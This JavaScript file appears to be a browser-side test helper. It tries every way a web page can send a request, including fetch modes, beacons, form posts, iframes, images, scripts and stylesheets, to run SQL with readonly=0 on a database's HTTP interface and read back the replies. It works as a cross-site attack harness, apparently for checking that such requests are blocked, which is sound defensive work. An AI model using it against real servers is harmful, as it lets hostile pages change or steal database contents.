/** Every way in which a page sends a request. Resolves to everything the page could read. */
async function attack(target, statements) {
  const read = []
  const loaded = (element, attribute, url) =>
    new Promise((resolve) => {
      element.addEventListener('load', resolve)
      element.addEventListener('error', resolve)
      element.setAttribute(attribute, url)
      document.body.append(element)
      setTimeout(resolve, 1_000)
    })
  const fetched = async (url, init) => {
    const reply = await fetch(url, init).catch(() => undefined)
    read.push((await reply?.text().catch(() => '')) ?? '')
  }
  for (const sql of statements) {
    const bare = `${target}/?database=ipid`
    const url = `${bare}&readonly=0&add_http_cors_header=1&query=${encodeURIComponent(sql)}`
    for (const mode of ['cors', 'no-cors']) {
      for (const init of [{}, { method: 'POST' }, { method: 'POST', body: ' ' }, { method: 'HEAD' }]) {
        await fetched(url, { mode, ...init })
      }
      await fetched(bare, { mode, method: 'POST', body: sql })
    }
    navigator.sendBeacon(bare, sql)
    const frame = Object.assign(document.createElement('iframe'), { name: `frame-${Math.random()}` })
    const form = Object.assign(document.createElement('form'), {
      method: 'POST',
      action: url,
      enctype: 'text/plain',
      target: frame.name,
    })
    document.body.append(frame, form)
    form.submit()
    const sandboxed = document.createElement('iframe')
    sandboxed.setAttribute('sandbox', 'allow-scripts')
    await Promise.all([
      loaded(new Image(), 'src', url),
      loaded(document.createElement('script'), 'src', url),
      loaded(document.createElement('iframe'), 'src', url),
      loaded(Object.assign(document.createElement('link'), { rel: 'stylesheet' }), 'href', url),
      loaded(sandboxed, 'srcdoc', `<img src="${url.replaceAll('&', '&amp;')}">`),
    ])
  }
  return read
}

/** Leaves the page for another. */
function leave(href) {
  const link = Object.assign(document.createElement('a'), { href })
  document.body.append(link)
  link.click()
}

Object.assign(globalThis, { attack, leave })
